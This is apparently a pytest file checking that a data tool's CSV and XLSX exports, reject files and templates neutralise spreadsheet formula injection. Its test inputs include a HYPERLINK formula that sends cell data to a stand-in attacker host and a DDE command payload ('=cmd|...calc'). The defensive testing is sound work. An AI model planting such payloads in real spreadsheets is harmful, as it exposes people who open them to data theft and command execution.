"""Spreadsheets the product writes run no formulas (OWASP CSV injection), and the atlas keeps the values as stored.

Each payload below is a firm name: it loads unchanged into the atlas and comes out with a leading ``'`` in
every CSV/XLSX written from it (export, analysis result, reject file, template), while numbers stay numbers.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from chainatlas.ingest.excel import TRIGGERS, safe_cell, safe_frame, safe_text
from chainatlas.model.codes import credit_code_check_char
from chainatlas.pipeline import query
from chainatlas.pipeline.analyze.result import Result, write
from chainatlas.pipeline.export import export
from chainatlas.pipeline.load import ingest_files
from chainatlas.storage.base import open_backend

PAYLOADS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+1+1", "@SUM(A1)", "-2+3", "\t=1"]


def _code(i: int) -> str:
    first17 = f"9132050600000{i:04d}"
    return first17 + credit_code_check_char(first17)


def _read_csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


# ------------------------------------------------------------------------------------------------ the rule
@pytest.mark.parametrize(
    "text", [*PAYLOADS, "\r=1", "＝1+1", "-", "+", "=", "-1-1", "--5", "-1e5+1", "-12.5a"]
)
def test_formula_text_gets_a_quote(text: str):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-12.5", "+3", "-1,234.5", "-5%", "-1e3", "-.5", "苏州", "", "a=b", "'=already", " =1", "1-2"]
)
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(text: str):
    assert safe_text(text) == text


def test_only_text_is_touched():
    assert safe_cell(-12.5) == -12.5 and safe_cell(-3) == -3 and safe_cell(None) is None
    assert safe_cell(True) is True


@given(st.text(max_size=20))
def test_every_written_text_is_safe_and_recoverable(text: str):
    out = safe_text(text)
    assert out in (text, "'" + text)
    assert not out or out[0] not in TRIGGERS or out == text  # only plain numbers keep a trigger first


def test_safe_frame_quotes_text_columns_and_headers_and_leaves_the_frame_alone():
    df = pd.DataFrame(
        {
            "name": PAYLOADS,
            "amount": [-1.5, -2.0, 3.0, -4.0, 5.0],
            "n": [-1, 2, 3, 4, 5],
            "cat": pd.Categorical(["@x", "b", "b", "b", "b"]),
            "mixed": ["-12.5", 7, None, ["=a"], "=b"],
            "=head": ["ok"] * 5,
        }
    )
    before = df.copy()
    out = safe_frame(df)
    pd.testing.assert_frame_equal(df, before)  # the caller's (stored) frame is unchanged
    assert list(out["name"]) == ["'" + p for p in PAYLOADS]
    assert out["amount"].tolist() == before["amount"].tolist() and out["n"].dtype == before["n"].dtype
    assert list(out["cat"])[:2] == ["'@x", "b"]
    assert out["mixed"].tolist() == ["-12.5", 7, None, ["=a"], "'=b"]
    assert list(out.columns)[-1] == "'=head"
    clean = pd.DataFrame({"a": ["x"], "b": [1]})
    assert safe_frame(clean) is clean


# ------------------------------------------------------------------------------------------------ end to end
@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """An atlas holding firms named by the payloads, and the reject file of a firm with a bad credit code."""
    d = tmp_path_factory.mktemp("inject")
    rows = [
        {"统一社会信用代码": _code(i), "名称": name, "主体类型": "企业", "行政区划代码": "320506"}
        for i, name in enumerate(PAYLOADS)
    ]
    rows.append(
        {
            "统一社会信用代码": "91320506BADCODE00X",
            "名称": "=cmd|'/C calc'!A0",
            "主体类型": "企业",
            "行政区划代码": "320506",
        }
    )
    src = d / "firms.csv"
    pd.DataFrame(rows).to_csv(src, index=False, encoding="utf-8-sig")
    db = d / "atlas.duckdb"
    with open_backend(db) as b:
        out = ingest_files(b, [("firms", src)], quarantine=True, reject_dir=d)
    return db, out.rejects[next(iter(out.rejects))]


def test_payloads_load_unchanged_into_the_atlas(loaded):
    db, _ = loaded
    with open_backend(db, read_only=True) as b:
        stored = b.sql("SELECT name FROM raw_firms")["name"].tolist()
    # as given, but for the surrounding whitespace that ingest trims from every cell ("\t=1" is stored "=1")
    assert sorted(stored) == sorted(p.strip() for p in PAYLOADS)


def test_reject_file_is_neutralised(loaded):
    _, rejects = loaded
    cells = _read_csv_cells(rejects)
    assert "'=cmd|'/C calc'!A0" in cells[1]
    assert cells[1][cells[0].index("行号/row")].isdigit()  # the row number is a number, not quoted text


def test_analysis_result_csv_is_neutralised_and_numbers_stay(loaded, tmp_path: Path):
    db, _ = loaded
    with open_backend(db, read_only=True) as b:
        data = b.sql("SELECT name, credit_code FROM raw_firms ORDER BY credit_code")
    data["score"] = [-1.5 * i for i in range(len(data))]
    path = write(Result(data, {"topic": "probe"}), tmp_path / "r.csv")
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert back["name"].tolist() == ["'" + n for n in data["name"]]
    assert back["score"].tolist() == data["score"].tolist()
    # JSON is not a spreadsheet: it keeps the value
    jpath = write(Result(data, {"topic": "probe"}), tmp_path / "r.json")
    assert [r["name"] for r in json.loads(jpath.read_text(encoding="utf-8"))["data"]] == data["name"].tolist()


def test_export_csv_is_neutralised(atlas, tmp_path: Path, monkeypatch):
    units = query.units(atlas, "city")
    evil = units.copy()
    evil.loc[evil.index[: len(PAYLOADS)], "name_zh"] = PAYLOADS
    monkeypatch.setattr(query, "units", lambda backend, scale: evil)
    out = export(atlas, "places", tmp_path / "places.csv", scale="city")
    back = pd.read_csv(out, encoding="utf-8-sig", dtype={"unit": str}, keep_default_na=False)
    assert back["name_zh"].tolist()[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert back["lon"].tolist() == pytest.approx(evil["lon"].tolist())
    assert evil["name_zh"].tolist()[: len(PAYLOADS)] == PAYLOADS  # what query gave is unchanged
    geo = export(atlas, "places", tmp_path / "places.geojson", scale="city")  # GeoJSON is not a spreadsheet
    assert "'=HYPERLINK" not in geo.read_text(encoding="utf-8")


def test_templates_quote_formula_cells_in_csv_and_xlsx(tmp_path: Path, monkeypatch):
    from openpyxl import load_workbook

    from chainatlas.ingest import templates

    real = templates._doc_rows
    monkeypatch.setattr(templates, "_doc_rows", lambda k, lang: [*real(k, lang), ["=1+1", "-2+3", -5]])
    templates.write_template("firms", tmp_path / "f.csv")
    side = _read_csv_cells(tmp_path / "f.说明.csv")
    assert side[-1] == ["'=1+1", "'-2+3", "-5"]
    templates.write_template("firms", tmp_path / "f.xlsx")
    ws = load_workbook(tmp_path / "f.xlsx")["说明"]
    last = [c.value for c in ws[ws.max_row]]
    assert last[:3] == ["'=1+1", "'-2+3", -5]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula cells at all
